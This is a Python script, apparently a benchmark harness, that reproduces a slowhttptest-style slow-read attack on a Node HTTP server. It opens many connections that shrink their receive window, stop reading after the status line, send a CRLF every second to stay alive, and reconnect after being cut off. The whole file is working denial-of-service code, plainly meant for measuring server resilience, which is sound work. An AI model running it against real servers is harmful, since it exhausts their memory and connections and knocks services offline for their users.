"""Clients that stop reading, as slowhttptest has them: they keep a small window open, and segments are as large as on Ethernet.

Node sets neither, and on the loopback interface, where a segment holds 64 KiB, the buffers of a connection take megabytes before anybody
can tell that nobody reads. Takes host, port, path, headers as JSON and how many; each begins anew within ten seconds after it was
cut off. At SIGTERM it prints how long each lasted, and the status of their answers, as JSON.
"""

import asyncio
import json
import random
import signal
import socket
import sys
import time

SEGMENT_BYTES = 1460
WINDOW_BYTES = 4096
EVERY_SECONDS = 1
BEGIN_WITHIN_SECONDS = 10
STATUS = slice(9, 12)

host, port, path, headers, connections = sys.argv[1:]
lines = "".join(f"{name}: {value}\r\n" for name, value in json.loads(headers).items())
request = f"GET {path} HTTP/1.1\r\nhost: bench\r\n{lines}\r\n".encode()
lives = []
answers = {}


async def attack():
    loop = asyncio.get_running_loop()
    answer = "closed without an answer"
    begun = time.monotonic()
    with socket.socket() as client:
        client.setblocking(False)
        client.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, SEGMENT_BYTES)
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, WINDOW_BYTES)
        try:
            await loop.sock_connect(client, (host, int(port)))
            await loop.sock_sendall(client, request)
            answer = (await loop.sock_recv(client, STATUS.stop))[STATUS].decode()
            # Who has stopped reading notices the end only when it cannot write any more.
            while True:
                await asyncio.sleep(EVERY_SECONDS)
                await loop.sock_sendall(client, b"\r\n")
        except OSError:
            lives.append(time.monotonic() - begun)
            answers[answer] = answers.get(answer, 0) + 1


async def attack_again_and_again():
    while True:
        await asyncio.sleep(random.uniform(0, BEGIN_WITHIN_SECONDS))
        await attack()


async def main():
    attackers = asyncio.gather(*(attack_again_and_again() for _ in range(int(connections))))
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, attackers.cancel)
    try:
        await attackers
    except asyncio.CancelledError:
        print(json.dumps({"lives": lives, "answers": answers}))


asyncio.run(main())
